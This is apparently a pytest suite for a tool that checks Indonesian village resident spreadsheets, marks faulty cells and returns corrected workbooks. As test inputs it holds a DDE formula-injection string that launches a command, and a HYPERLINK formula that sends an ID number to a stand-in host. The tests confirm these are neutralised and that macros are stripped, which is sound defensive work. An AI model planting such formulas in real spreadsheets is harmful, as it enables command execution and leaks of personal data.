"""The way back: the village's own workbook, marked."""

from __future__ import annotations

import datetime as dt
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest
from openpyxl.comments import Comment
from openpyxl.styles import Border, Font, PatternFill, Side
from openpyxl.worksheet.datavalidation import DataValidation

from payung.rosters import read, write_corrected
from payung.rosters.changes import compare
from payung.said import say

HEADING = ["No", "NIK", "Nama Lengkap", "Tgl Lahir", "L/P", "No HP", "Keterangan"]
RED, YELLOW = "FFFFC7CD", "FFFFEB9B"


@pytest.fixture
def village_book(tmp_path: Path, people: Any) -> Path:
    """A workbook as a village would dress it: title, widths, borders, merges, a formula, a comment, a second sheet."""
    path = tmp_path / "desa.xlsx"
    book = openpyxl.Workbook()
    page = book.active
    page.title = "Data Warga"
    page.merge_cells("A1:G1")
    page["A1"] = "DAFTAR WARGA DESA CONTOH"
    page["A1"].font = Font(bold=True, size=14)
    edge = Side(style="thin")
    for at, word in enumerate(HEADING, 1):
        page.cell(3, at, word).fill = PatternFill("solid", fgColor="FFC6E0B4")
    for number in range(8):
        one = people.person(number)
        values = [number + 1, one["nik"], one["name"], one["birth_date"], one["sex"], one["phone"], ""]
        for at, value in enumerate(values, 1):
            page.cell(4 + number, at, value).border = Border(edge, edge, edge, edge)
    page["B5"] = "62039901"
    page["E6"] = "x"
    page["C7"] = None
    page["G8"] = "Meninggal"
    page["F9"] = "+cmd|' /C calc'!A0"
    page["B4"].fill = PatternFill("solid", fgColor="FFFFFF00")
    page["C5"].comment = Comment("catatan desa", "Kaur")
    page["A13"] = "=SUM(A4:A11)"
    page["B13"] = '=HYPERLINK("http://contoh.example/?"&B4,"klik")'
    page.column_dimensions["C"].width = 31.5
    page.freeze_panes = "A4"
    rule = DataValidation(type="list", formula1='"L,P"')
    rule.add("E4:E11")
    page.add_data_validation(rule)
    other = book.create_sheet("Lampiran")
    other["B2"] = "tetap"
    book.save(path)
    return path


@pytest.fixture
def returned(village_book: Path, tmp_path: Path, as_of: dt.date) -> Path:
    """The corrected copy of that workbook."""
    return write_corrected(read(village_book, as_of=as_of), tmp_path / "balasan" / "desa.xlsx")


def test_faulty_cells_are_coloured_and_commented(returned: Path) -> None:
    page = openpyxl.load_workbook(returned)["Data Warga"]
    for cell, colour in (("B5", RED), ("E6", YELLOW), ("C7", RED), ("G8", RED), ("F9", YELLOW)):
        assert page[cell].fill.fgColor.rgb == colour, cell
        assert cell in page[cell].comment.text
        assert page[cell].comment.author == "Payung"
    assert page["B5"].border.left.style == "thin"


def test_everything_else_looks_as_before(village_book: Path, returned: Path) -> None:
    before, after = (openpyxl.load_workbook(path)["Data Warga"] for path in (village_book, returned))
    marked = {"B5", "E6", "C7", "G8", "F9", "B13"}
    for row in before.iter_rows():
        for cell in row:
            if cell.coordinate in marked:
                continue
            twin = after[cell.coordinate]
            assert twin.value == cell.value
            for part in ("fill", "font", "border", "alignment", "number_format"):
                assert repr(getattr(twin, part)) == repr(getattr(cell, part))
    assert after.merged_cells.ranges == before.merged_cells.ranges
    assert after.column_dimensions["C"].width == 31.5
    assert after.freeze_panes == "A4"
    assert [rule.formula1 for rule in after.data_validations.dataValidation] == ['"L,P"']
    assert after["C5"].comment.text == "catatan desa"
    assert after["A13"].value == "=SUM(A4:A11)"
    assert openpyxl.load_workbook(returned)["Lampiran"]["B2"].value == "tetap"


def test_sheet_of_repairs_names_and_links_every_cell(returned: Path) -> None:
    page = openpyxl.load_workbook(returned)["Perbaikan"]
    lines = [[cell.value for cell in row] for row in page.iter_rows(min_row=3)]
    assert [(line[1], line[2]) for line in lines] == [(5, "B"), (6, "E"), (7, "C"), (8, "G"), (9, "F")]
    assert all(line[4] and line[5] for line in lines)
    assert page["C3"].hyperlink.location == "'Data Warga'!B5"
    assert lines[0][6] == "Dikembalikan"
    assert lines[1][6] == "Catatan"


def test_formulas_that_reach_outside_are_cut(returned: Path) -> None:
    with zipfile.ZipFile(returned) as book:
        sheets = b"".join(book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/"))
    assert b"HYPERLINK" not in sheets
    assert b"<f>SUM(A4:A11)</f>" in sheets
    repairs = openpyxl.load_workbook(returned)["Perbaikan"]
    dangerous = next(row for row in repairs.iter_rows(min_row=3) if row[2].value == "F")
    assert dangerous[3].data_type == "s"


def test_same_input_gives_the_same_bytes(village_book: Path, tmp_path: Path, as_of: dt.date) -> None:
    copies = [
        write_corrected(read(village_book, as_of=as_of), tmp_path / f"{at}.xlsx").read_bytes()
        for at in range(2)
    ]
    assert copies[0] == copies[1]


def test_mended_copy_comes_back_clean(
    returned: Path, village_book: Path, tmp_path: Path, people: Any, as_of: dt.date
) -> None:
    before = read(village_book, as_of=as_of)
    book = openpyxl.load_workbook(returned)
    page = book["Data Warga"]
    page["B5"] = "6203990202800009"
    page["D5"] = "02-02-1980"
    page["E5"] = "L"
    page["E6"] = before.rows["sex"][0] and ("P" if int(page["B6"].value[6:8]) > 40 else "L")
    mended = tmp_path / "dibetulkan.xlsx"
    book.save(mended)
    after = read(mended, as_of=as_of)
    changes = compare(before, after)
    assert changes.filter(pl.col("change") == "mended")["row_after"].to_list() == [5, 6]
    assert changes.filter(pl.col("change") == "same").height == 6
    page = openpyxl.load_workbook(write_corrected(after, tmp_path / "lagi.xlsx"))["Data Warga"]
    assert page["B5"].fill.fgColor.rgb != RED
    assert page["B5"].comment is None
    assert page["E6"].comment is None
    assert page["C7"].fill.fgColor.rgb == RED
    assert page["C5"].comment.text == "catatan desa"
    assert openpyxl.load_workbook(tmp_path / "lagi.xlsx").sheetnames == [
        "Data Warga",
        "Lampiran",
        "Perbaikan",
    ]


def test_macros_stay_behind(tmp_path: Path, village_book: Path, as_of: dt.date) -> None:
    path = tmp_path / "makro.xlsm"
    with zipfile.ZipFile(village_book) as source, zipfile.ZipFile(path, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            if name == "[Content_Types].xml":
                data = data.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml").replace(
                    b"</Types>",
                    b'<Override PartName="/xl/vbaProject.bin" '
                    b'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                )
                data = data.replace(
                    b"openxmlformats-officedocument.spreadsheetml.sheet.macroEnabled",
                    b"ms-excel.sheet.macroEnabled",
                )
            if name == "xl/_rels/workbook.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rId99" '
                    b'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                    b'Target="vbaProject.bin"/></Relationships>',
                )
            target.writestr(name, data)
        target.writestr("xl/vbaProject.bin", b"macro")
    reading = read(path, as_of=as_of)
    assert any("makro" in note for note in map(say, reading.notes))
    copy = write_corrected(reading, tmp_path / "balasan.xlsm")
    assert copy.name == "balasan.xlsm.xlsx"
    with zipfile.ZipFile(copy) as book:
        assert "xl/vbaProject.bin" not in book.namelist()
        assert b"vbaProject" not in book.read("[Content_Types].xml") + book.read("xl/_rels/workbook.xml.rels")
        assert b"macroEnabled" not in book.read("[Content_Types].xml")
    assert openpyxl.load_workbook(copy)["Data Warga"]["B5"].fill.fgColor.rgb == RED


@pytest.mark.parametrize(
    "name", ["02_siak_export.xls", "04_bip_2016.xls", "08_erdkk_nik_rusak.csv", "14_bpjstk_rekon.txt"]
)
def test_other_files_come_back_as_xlsx_with_the_same_cells(
    name: str, collected: Path, tmp_path: Path, as_of: dt.date
) -> None:
    reading = read(collected / name, as_of=as_of)
    copy = write_corrected(reading, tmp_path / name)
    assert copy.name == name + ".xlsx"
    again = read(copy, as_of=as_of)
    plain = ["nik", "kk", "name", "birth_date", "sex", "rt", "rw", "verdict", "row"]
    assert again.rows.select(plain).rows() == reading.rows.select(plain).rows()
    assert openpyxl.load_workbook(copy).sheetnames[-1] == "Perbaikan"


def test_old_xls_keeps_widths_and_merges(collected: Path, tmp_path: Path, as_of: dt.date) -> None:
    import xlrd

    old = xlrd.open_workbook(str(collected / "04_bip_2016.xls"), formatting_info=True).sheet_by_index(0)
    copy = write_corrected(read(collected / "04_bip_2016.xls", as_of=as_of), tmp_path / "bip.xls")
    page = openpyxl.load_workbook(copy).worksheets[0]
    assert len(page.merged_cells.ranges) == len(old.merged_cells)
    for column, info in old.colinfo_map.items():
        assert page.column_dimensions[openpyxl.utils.get_column_letter(column + 1)].width == pytest.approx(
            info.width / 256, abs=1
        )


def test_damaged_column_is_explained_once_and_coloured_everywhere(
    collected: Path, tmp_path: Path, as_of: dt.date
) -> None:
    copy = write_corrected(read(collected / "08_erdkk_nik_rusak.csv", as_of=as_of), tmp_path / "rusak.csv")
    book = openpyxl.load_workbook(copy)
    page = book.worksheets[0]
    assert "32 dari 32" in page["H1"].comment.text
    assert page["H2"].comment is None
    assert {page.cell(row, 8).fill.fgColor.rgb for row in range(1, 34)} == {RED}
    assert book["Perbaikan"].max_row == 3


def test_text_that_looks_like_a_formula_stays_text(
    sheet_file: Callable[..., Path], tmp_path: Path, as_of: dt.date
) -> None:
    path = tmp_path / "rumus.csv"
    path.write_text(
        'NIK;NAMA;L/P;ALAMAT\n1;=HYPERLINK("http://x");L;@SUM(1)\n6203990101800001;-2+3;L;+cmd|x\n'
    )
    page = openpyxl.load_workbook(write_corrected(read(path, as_of=as_of), tmp_path / "r")).worksheets[0]
    for cell in ("B2", "D2", "B3", "D3"):
        assert page[cell].data_type == "s"


def test_missing_column_is_marked_at_the_first_cell_of_the_row(
    sheet_file: Callable[..., Path], tmp_path: Path, people: Any, as_of: dt.date
) -> None:
    lines = [
        ["Nama", "Tgl Lahir", "L/P"],
        *[[one["name"], one["birth_date"], one["sex"]] for one in map(people.person, range(4))],
    ]
    path = sheet_file(lines)
    reading = read(path, as_of=as_of)
    assert reading.counts["returned"] == 4
    page = openpyxl.load_workbook(write_corrected(reading, tmp_path / "tanpa-nik.xlsx")).worksheets[0]
    assert "baris 2" in page["A2"].comment.text


def test_odd_names_and_overlapping_merges_do_not_stop_the_copy(
    tmp_path: Path, people: Any, as_of: dt.date
) -> None:
    path = tmp_path / "a[b]:c'.xls"
    rows = "".join(
        f"<tr><td colspan=2>{one['nik']}</td><td>{one['name']}</td></tr>"
        for one in map(people.person, range(4))
    )
    path.write_text(
        f"<table><tr><td rowspan=3 colspan=2>NIK</td><td>NAMA</td></tr><tr><td colspan=9>x</td></tr>{rows}</table>"
        "<table><tr><td>lain</td></tr></table>"
    )
    reading = read(path, as_of=as_of)
    copy = write_corrected(reading, tmp_path / "balasan.xls")
    assert openpyxl.load_workbook(copy).sheetnames == ["Tabel 1", "Tabel 2", "Perbaikan"]
    named = tmp_path / "a[b].csv"
    named.write_text("NIK;NAMA\n1;Kasmi\n")
    assert openpyxl.load_workbook(
        write_corrected(read(named, as_of=as_of), tmp_path / "x.csv")
    ).sheetnames == ["a b", "Perbaikan"]


def test_dates_and_short_numbers_of_an_old_book_stay_what_they_are(
    collected: Path, tmp_path: Path, as_of: dt.date
) -> None:
    copy = write_corrected(read(collected / "02_siak_export.xls", as_of=as_of), tmp_path / "siak.xls")
    page = openpyxl.load_workbook(copy).worksheets[0]
    assert page["F2"].value == dt.datetime(1994, 7, 4)  # noqa: DTZ001  a cell has no time zone
    assert page["R2"].value == 2
    assert page["A2"].value == "6203992708110001"


def test_fault_below_a_merged_cell_is_marked_where_it_shows(
    tmp_path: Path, people: Any, as_of: dt.date
) -> None:
    path = tmp_path / "gabung.xlsx"
    book = openpyxl.Workbook()
    page = book.active
    page.append(["No KK", "NIK", "Nama"])
    for one in map(people.person, range(3)):
        page.append(["", one["nik"], one["name"]])
    page["A2"] = "12345"
    page.merge_cells("A2:A4")
    book.save(path)
    reading = read(path, as_of=as_of)
    assert reading.findings["code"].to_list() == ["KK_FORMAT"] * 3
    marked = openpyxl.load_workbook(write_corrected(reading, tmp_path / "balasan.xlsx")).worksheets[0]
    assert marked["A2"].fill.fgColor.rgb == YELLOW
    assert marked["A2"].comment.text.count("12345") == 3


def test_nik_typed_into_a_marked_cell_stays_text(tmp_path: Path, people: Any, as_of: dt.date) -> None:
    """In a cell of format General Excel makes a number of sixteen digits and cuts the last."""
    path = tmp_path / "umum.xlsx"
    book = openpyxl.Workbook()
    page = book.active
    page.append(["No", "Nama", "NIK", "No HP"])
    for number in range(4):
        one = people.person(number)
        page.append([number + 1, one["name"], one["nik"], one["phone"]])
    page["C2"], page["C3"], page["C4"], page["D5"] = (
        "62039901",
        None,
        int(people.person(9)["nik"][:15] + "0"),
        "0812",
    )
    page["C4"].number_format = "0"
    book.save(path)
    reading = read(path, as_of=as_of)
    assert reading.counts["returned"] == 3
    page = openpyxl.load_workbook(write_corrected(reading, tmp_path / "balik.xlsx")).active
    assert [page[cell].number_format for cell in ("C2", "C3", "C4", "D5")] == ["@"] * 4
    assert page["C5"].number_format == page["B2"].number_format == "General"


def test_marked_cells_of_a_protected_sheet_can_be_mended(
    village_book: Path, tmp_path: Path, as_of: dt.date
) -> None:
    book = openpyxl.load_workbook(village_book)
    book["Data Warga"].protection.enable()
    book.save(village_book)
    reading = read(village_book, as_of=as_of)
    page = openpyxl.load_workbook(write_corrected(reading, tmp_path / "balik.xlsx"))["Data Warga"]
    assert page.protection.sheet
    assert not page["B5"].protection.locked
    assert not page["C7"].protection.locked
    assert page["B6"].protection.locked
